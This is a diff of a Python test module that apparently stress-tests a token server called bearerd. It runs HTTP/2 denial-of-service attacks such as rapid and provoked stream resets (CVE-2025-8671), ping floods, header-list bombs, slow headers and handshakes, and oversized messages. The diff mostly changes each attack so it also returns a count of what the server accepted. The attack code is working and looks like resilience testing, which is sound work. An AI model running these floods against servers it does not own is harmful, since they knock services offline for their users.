@@ -1,10 +1,11 @@
 """What somebody can do to bearerd who can connect to it and has no proof of who they are.
 
-Each attack works for so many seconds and says how much it sent. All of them come from an address of their own,
-127.0.0.2, where they can.
+Each attack works for so many seconds, and says in words how much it sent and, as a number, how much of that was taken:
+zero if it did not happen. All of them come from an address of their own, 127.0.0.2, where they can.
 """
 
 import itertools
+import re
 import shutil
 import subprocess
 import tempfile
@@ -13,7 +14,7 @@ import time
 
 from frames import (
     ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GET_TOKEN, HEADERS, PING, PRIORITY, RESET, SETTINGS,
-    WINDOW_UPDATE, connect, field, frame, greeted, indexed, is_open, message, pour, request,
+    WINDOW_UPDATE, begun_field, connect, field, frame, greeted, indexed, is_open, message, pour, request,
 )
 
 SOURCE = "127.0.0.2"
@@ -50,8 +51,10 @@ def requests(target, seconds):
              f"http://{host}:{port}/bearerd.v1.TokenService/GetToken"],
             capture_output=True, text=True, check=False,
         )
-    line = next((line for line in done.stdout.splitlines() if line.startswith("requests:")), "no requests")
-    return line.removeprefix("requests: ").split(" total")[0] + " requests"
+    # Those that were answered, with whatever it was.
+    answered = re.search(r"^requests: .* (\d+) done,", done.stdout, re.MULTILINE)
+    number = int(answered.group(1)) if answered else 0
+    return f"{number:,} requests", number
 
 
 def rapid_resets(target, seconds):
@@ -59,20 +62,20 @@ def rapid_resets(target, seconds):
     cancel = b"\0\0\0\x08"
     block = streams(lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, request()) + frame(RESET, 0, n, cancel))
     taken, used = repeat(target, seconds, block)
-    return f"{taken >> 20:,} MiB of requests, {used:,} connections"
+    return f"{taken >> 20:,} MiB of requests, {used:,} connections", taken
 
 
 def made_resets(target, seconds):
     """Requests that the server has to reset itself (CVE-2025-8671)."""
     block = streams(lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, request()) + frame(DATA, 0, n, b"x"))
     taken, used = repeat(target, seconds, block)
-    return f"{taken >> 20:,} MiB of requests, {used:,} connections"
+    return f"{taken >> 20:,} MiB of requests, {used:,} connections", taken
 
 
 def pings(target, seconds):
     """Pings whose answers are read."""
     taken, used = repeat(target, seconds, frame(PING, 0, 0, b"flooding") * 1000)
-    return f"{taken >> 20:,} MiB of pings, {used:,} connections"
+    return f"{taken >> 20:,} MiB of pings, {used:,} connections", taken
 
 
 def unread(target, seconds):
@@ -97,7 +100,7 @@ def unread(target, seconds):
         thread.start()
     for thread in threads:
         thread.join()
-    return f"{sum(taken) >> 20:,} MiB of frames, {len(taken):,} connections"
+    return f"{sum(taken) >> 20:,} MiB of frames, {len(taken):,} connections", sum(taken)
 
 
 def header_lists(target, seconds):
@@ -108,7 +111,7 @@ def header_lists(target, seconds):
         frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, request() + b"\xbe" * 12000) for n in range(1, 50))
     first, used = repeat(target, seconds / 2, endless)
     second, more = repeat(target, seconds / 2, bomb)
-    return f"{(first + second) >> 20:,} MiB, {used + more:,} connections"
+    return f"{(first + second) >> 20:,} MiB, {used + more:,} connections", min(first, second)
 
 
 def idle(target, seconds, count=10_000):
@@ -123,27 +126,39 @@ def silent(target, seconds, count=10_000):
 
 def hold(target, seconds, count, begin):
     # A slow host takes its time for so many; how far it came is told.
-    until, held, tried = time.monotonic() + 5 * seconds, [], 0
+    held, tried = opened(target, count, time.monotonic() + 5 * seconds, begin)
+    time.sleep(2)
+    return told(held, tried)
+
+
+def opened(target, count, until, begin):
+    """Begins so many connections, as far as the time goes. Those that were let in, and how many were tried."""
+    held, tried = [], 0
     while tried < count and time.monotonic() < until:
         tried += 1
         try:
             held.append(begin(target, SOURCE))
         except OSError:
+            # There is no room for more; how many were let in is told.
             pass
-    time.sleep(2)
+    return held, tried
+
+
+def told(held, tried):
+    """What came of these connections, which end here."""
     still = sum(is_open(stream) for stream in held)
     for stream in held:
         stream.close()
-    return f"{tried:,} connections, {still:,} kept"
+    return f"{tried:,} connections, {still:,} kept", len(held)
 
 
 def slow_headers(target, seconds, count=2000):
-    """Requests whose header fields never end, one byte of them at a time."""
+    """Requests whose header fields never end, one byte of a long one at a time."""
     def begin(target, source):
         stream = greeted(target, source)
-        stream.sendall(frame(HEADERS, END_STREAM, 1, request()))
+        stream.sendall(frame(HEADERS, END_STREAM, 1, request() + begun_field("x", 8000)))
         return stream
-    return trickle(target, seconds, count, begin, frame(CONTINUATION, 0, 1))
+    return trickle(target, seconds, count, begin, frame(CONTINUATION, 0, 1, b"y"))
 
 
 def slow_handshakes(target, seconds, count=2000):
@@ -156,55 +171,50 @@ def slow_handshakes(target, seconds, count=2000):
 
 
 def trickle(target, seconds, count, begin, more):
-    until, held, tried = time.monotonic() + seconds, [], 0
-    while tried < count and time.monotonic() < until:
-        tried += 1
-        try:
-            held.append(begin(target, SOURCE))
-        except OSError:
-            pass
+    until = time.monotonic() + seconds
+    held, tried = opened(target, count, until, begin)
     while time.monotonic() < until:
         for stream in held:
             try:
                 stream.send(more)
             except OSError:
+                # It was cut off; how many were not is told.
                 pass
         time.sleep(0.5)
-    still = sum(is_open(stream) for stream in held)
-    for stream in held:
-        stream.close()
-    return f"{tried:,} connections, {still:,} kept"
+    return told(held, tried)
 
 
 def oversized(target, seconds):
     """Messages that are larger than allowed, and say so."""
     body = message(b"x" * 16_000, 1 << 30)
-    block = streams(lambda n: frame(HEADERS, END_HEADERS, n, request()) + frame(DATA, 0, n, body) , 500)
+    block = streams(lambda n: frame(HEADERS, END_HEADERS, n, request()) + frame(DATA, 0, n, body), 500)
     taken, used = repeat(target, seconds, block)
-    return f"{taken >> 20:,} MiB, {used:,} connections"
+    return f"{taken >> 20:,} MiB, {used:,} connections", taken
 
 
 def begun(target, seconds, connections=20, each=1000):
     """Requests of which nothing but the header fields is sent."""
-    until, held = time.monotonic() + seconds, []
+    until, held, taken = time.monotonic() + seconds, [], 0
     block = streams(lambda n: frame(HEADERS, END_HEADERS, n, request()), each)
     for _ in range(connections):
         try:
             stream = greeted(target, SOURCE)
-            pour_once(stream, block, until)
+            taken += pour_once(stream, block, until) * each // len(block)
             held.append(stream)
         except OSError:
+            # Requests of a connection that broke are not counted.
             pass
+    let_in = len(held)
     while time.monotonic() < until:
         held = [stream for stream in held if is_open(stream)]
         time.sleep(0.1)
     for stream in held:
         stream.close()
-    return f"{connections * each:,} requests, {connections} connections"
+    return f"{taken:,} requests, {let_in} connections", taken
 
 
 def pour_once(stream, block, until):
-    """Sends a block once, as far as the time goes, and reads what is said meanwhile."""
+    """Sends a block once, as far as the time goes, and reads what is said meanwhile. The number of bytes taken."""
     stream.setblocking(False)
     view, at = memoryview(block), 0
     while at < len(view) and time.monotonic() < until:
@@ -214,6 +224,7 @@ def pour_once(stream, block, until):
             time.sleep(0.001)
         if not is_open(stream):
             break
+    return at
 
 
 def unfinished(target, seconds, connections=4, each=250):
@@ -225,6 +236,7 @@ def unfinished(target, seconds, connections=4, each=250):
             with greeted(target, SOURCE) as stream:
                 sent.append(Sender(stream, each).send(until))
         except OSError:
+            # Requests of a connection that was ended before all of them had begun are not counted.
             pass
 
     for _ in range(connections):
@@ -233,7 +245,7 @@ def unfinished(target, seconds, connections=4, each=250):
         thread.start()
     for thread in threads:
         thread.join()
-    return f"{sum(sent) >> 20:,} MiB, {connections * each:,} requests"
+    return f"{sum(sent) >> 20:,} MiB, {len(sent) * each:,} requests", sum(sent)
 
 
 class Sender:
